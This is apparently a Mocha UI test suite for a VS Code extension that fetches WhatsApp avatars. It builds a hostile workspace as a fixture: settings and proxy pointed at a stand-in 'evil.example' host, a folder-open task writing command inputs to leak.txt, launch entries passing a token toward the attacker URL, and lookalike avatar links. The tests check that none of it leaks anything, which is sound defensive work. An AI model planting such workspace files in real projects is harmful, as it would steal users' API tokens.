import assert from 'node:assert/strict';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { after, before, describe, it } from 'mocha';
import { uiFolder } from '../host/paths.ts';
import { addInstance } from './instanceForm.ts';
import { pictureSize } from './pageElement.ts';
import { SHOP, useSimulator } from './simulated.ts';
import { until } from './until.ts';
import { useWindow } from './window.ts';

const MAYA = '79001234567@c.us';
const MARCUS = '12025550143@c.us';
const OWEN = '447700900123@c.us';
const BAIT = '79001234599@c.us';
const ASKED_BY_TASK = '79001234588@c.us';
const EVIL_HOST = 'https://evil.example';

/** Commands of ours that a task or a debug configuration runs in order to be started. */
function inputsOf(evil: string) {
  const idInstance = Number(SHOP.idInstance);
  const stolen = { apiTokenInstance: 'a'.repeat(50), apiUrl: EVIL_HOST };
  return Object.entries({
    bait: ['lookUp', BAIT],
    add: ['addInstance', { idInstance, ...stolen, product: 'whatsapp' }],
    edit: ['editInstance', { idInstance, ...stolen }],
    look: ['lookUp', { chatId: ASKED_BY_TASK, ...stolen, apiUrl: evil }],
    curl: ['copyAsCurl', { chatId: MAYA, ...stolen }],
  }).map(([id, [command, args]]) => ({
    id,
    type: 'command',
    command: `avatarLens.${command}`,
    args,
  }));
}

/** What somebody may hand to a developer, in the hope that opening or hovering does the rest. */
function hostileFiles(evil: string): Record<string, string> {
  const idInstance = Number(SHOP.idInstance);
  const inputs = inputsOf(evil);
  return {
    '.vscode/settings.json': JSON.stringify({
      'avatarLens.hover.lookUp': 'automatic',
      'avatarLens.hover.size': 320,
      'avatarLens.apiUrl': evil,
      'avatarLens.inline.enabled': true,
      'avatarLens.documentLinks.enabled': true,
      'avatarLens.numericIds.keys': ['.*'],
      'http.proxy': evil,
      'http.proxyStrictSSL': false,
    }),
    '.vscode/tasks.json': JSON.stringify({
      version: '2.0.0',
      tasks: [
        {
          label: 'steal at once',
          type: 'shell',
          command: `echo \${input:bait} > leak.txt`,
          runOptions: { runOn: 'folderOpen' },
        },
        ...inputs.map(({ id }) => ({
          label: id,
          type: 'shell',
          command: `echo \${input:${id}} > leak.txt`,
          problemMatcher: [],
        })),
      ],
      inputs,
    }),
    '.vscode/launch.json': JSON.stringify({
      version: '0.2.0',
      configurations: inputs.map(({ id }) => ({
        type: 'node',
        request: 'launch',
        name: id,
        program: `\${input:${id}}`,
      })),
      inputs,
    }),
    'people.json': [
      JSON.stringify({ idInstance, chatId: MAYA, apiUrl: evil }),
      JSON.stringify({ chatId: MARCUS, url: `${evil}/waInstance${idInstance}/getAvatar/x` }),
      JSON.stringify({ chatId: OWEN, apiUrl: evil, apiTokenInstance: 'b'.repeat(50) }),
      JSON.stringify({ urlAvatar: `${evil}/avatar.jpg` }),
      JSON.stringify({ urlAvatar: `${evil.replace('//', '//pps.whatsapp.net@')}/looks-good.jpg` }),
      JSON.stringify({ urlAvatar: `https://pps.whatsapp.net.evil.example/tail.jpg` }),
      '',
    ].join('\n'),
    'README.md': `![a](${evil}/a.png) [b](command:avatarLens.lookUp?%22${BAIT}%22) ${BAIT}\n`,
  };
}

describe('A workspace of strangers', () => {
  const folder = path.join(uiFolder, 'trust-workspace');
  const evilRequests: string[] = [];
  const evil = createServer((request, response) => {
    evilRequests.push(`${request.method} ${request.url}`);
    response.end();
  });
  evil.on('connect', (request, socket) => {
    evilRequests.push(`CONNECT ${request.url}`);
    socket.end();
  });
  const simulator = useSimulator({
    instances: [{ ...SHOP, typeInstance: 'whatsapp' }],
    contacts: [MAYA, MARCUS, OWEN].map((chatId) => ({ chatId, avatar: 'picture' })),
  });
  before(async () => {
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    const origin = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
    for (const [name, text] of Object.entries(hostileFiles(origin))) {
      const file = path.join(folder, name);
      mkdirSync(path.dirname(file), { recursive: true });
      writeFileSync(file, text);
    }
  });
  after(() => evil.close());
  const window = useWindow({
    name: 'trust',
    folder,
    restricted: true,
    // Once a folder is trusted, VS Code 1.105 runs its tasks by itself, and with them any command.
    settings: { 'task.allowAutomaticTasks': 'off' },
  });
  const asked = () =>
    simulator().requests.flatMap(({ method, body }) =>
      method === 'getAvatar' ? [(body as { chatId: string }).chatId] : [],
    );
  /** The account's own picture is asked for once it was added. */
  const askedByHand = () => asked().filter((chatId) => !chatId.startsWith('7900000'));

  before(async function () {
    this.timeout(60_000);
    await window().openView('Avatar Lens');
    await addInstance(window(), SHOP, simulator().origin);
    await window().openFile('people.json');
  });

  it('gets nothing sent by hovering in Restricted Mode, and offers a click instead', async () => {
    const hover = await window().hoverText(MAYA, /Look up/);
    assert.equal(await hover.locator('img').count(), 0);
    await window().screenshot('restricted hover');
    await window().leaveText();
    await window().hoverText(MARCUS, /Look up/);
    await window().leaveText();
    assert.deepEqual(askedByHand(), []);
  });

  it('says in one line why no face came, with the link to what changes that', async () => {
    const hover = await window().hoverText(MAYA, /Look up/);
    const line = hover.locator('p', { hasText: 'Hovers send nothing in Restricted Mode.' });
    assert.equal(await line.count(), 1);
    const { height = 0 } = (await line.boundingBox()) ?? {};
    assert.ok(height > 0 && height < 30, `${height} pixels`);
    await line.locator('em', { hasText: /^Hovers send nothing in Restricted Mode\.$/ }).waitFor();
    await window().leaveText();
    await window().clickInHover(MAYA, 'Manage trust');
    await window().tab('Workspace Trust').waitFor();
    await window().runCommand('View: Close Editor');
    await window().tab('people.json').waitFor();
    assert.deepEqual(askedByHand(), []);
  });

  it('lets the click ask, and shows the hover again with the answer', async () => {
    await window().clickInHover(MAYA, 'Look up');
    const answered = window().hover.filter({ hasText: 'Picture' });
    await answered.waitFor();
    assert.equal((await pictureSize(answered.locator('img'))).width, 640);
    assert.deepEqual(askedByHand(), [MAYA]);
    await window().page.keyboard.press('Escape');
    await window().leaveText();
  });

  it('shows what is stored without a click', async () => {
    const hover = await window().hoverText(MAYA, /Picture/);
    assert.equal((await pictureSize(hover.locator('img'))).width, 640);
    await window().leaveText();
    assert.deepEqual(askedByHand(), [MAYA]);
  });

  it('gets one getAvatar for each hovered id once it is trusted, to the user’s own instance', async () => {
    await window().runCommand('Workspaces: Manage Workspace Trust');
    await window().page.getByRole('button', { name: 'Trust', exact: true }).click();
    await window().page.getByText('You trust this folder').first().waitFor();
    await window().runCommand('View: Close Editor');
    await window().openFile('README.md');
    await window().openFile('people.json');
    for (const chatId of [MARCUS, OWEN]) {
      await window().hoverText(chatId, /Picture/);
      await window().leaveText();
    }
    assert.deepEqual(askedByHand(), [MAYA, MARCUS, OWEN]);
  });

  it('cannot set how, where or how much is asked', async () => {
    const hover = await window().hoverText(OWEN, /Picture/);
    assert.equal(await hover.locator('img').getAttribute('width'), '96');
    await window().leaveText();
    await window().updateSettings({ 'avatarLens.hover.lookUp': 'off' });
    await window().openFile('people.json');
    await window().pointAt(OWEN);
    await until('the setting of the user to count', async () => {
      await window().leaveText();
      await window().pointAt(OWEN);
      return !(await window().hover.filter({ hasText: '+44' }).isVisible());
    });
    await window().leaveText();
  });

  it('has links in its documents that are followed by a click only', async () => {
    await window().updateSettings({ 'avatarLens.hover.lookUp': 'automatic' });
    await window().openFile('people.json');
    for (const link of ['avatar.jpg', 'looks-good.jpg', 'tail.jpg']) {
      const hover = await window().hoverText(link, /Open link/);
      assert.equal(await hover.locator('img').count(), 0);
      await window().screenshot(`trusted hover ${link}`);
      await window().leaveText();
    }
  });

  it('gets nothing out of commands that a task or a debug configuration runs', async () => {
    const before = simulator().requests.length;
    const start = async (what: 'task' | 'launch', id: string) => {
      await window().runCommand('Notifications: Clear All Notifications');
      await window().runCommand(
        what === 'task' ? 'Tasks: Run Task' : 'Debug: Select and Start Debugging',
      );
      await window().quickInput.type(what === 'task' ? id : `debug ${id}`);
      await window().quickInput.pickExactly(id);
    };
    /** VS Code hands on texts only, and our commands answer with none. */
    const nothingCame = async (what: 'task' | 'launch') => {
      if (what === 'task') return;
      const refusal = await window().dialog('did not return a result of type string');
      await refusal.getByRole('button', { name: 'Cancel' }).click();
    };
    for (const what of ['task', 'launch'] as const) {
      await start(what, 'add');
      const question = await window().dialog('Send the token to evil.example?');
      await window().screenshot(`trusted ${what} add`);
      await question.getByRole('button', { name: 'Cancel' }).click();
      await nothingCame(what);
      await start(what, 'edit');
      await window().quickInput.shown('Edit instance Shop');
      await window().quickInput.cancel();
      await nothingCame(what);
      assert.equal(simulator().requests.length, before);
      await window().setClipboard('');
      await start(what, 'curl');
      const copied = () => window().clipboard();
      await until('the request to be copied', async () => (await copied()) !== '');
      assert.match(await copied(), /\$API_TOKEN_INSTANCE/);
      assert.ok(!(await copied()).includes(SHOP.apiTokenInstance));
    }
    assert.equal(simulator().requests.length, before);
    await start('task', 'look');
    await until('the user’s own instance to be asked', () => asked().includes(ASKED_BY_TASK));
    const leak = path.join(folder, 'leak.txt');
    assert.equal(existsSync(leak) ? readFileSync(leak, 'utf8').trim() : '', '');
  });

  it('never hears from us', () => {
    assert.deepEqual(evilRequests, []);
    assert.ok(!asked().includes(BAIT));
  });
});
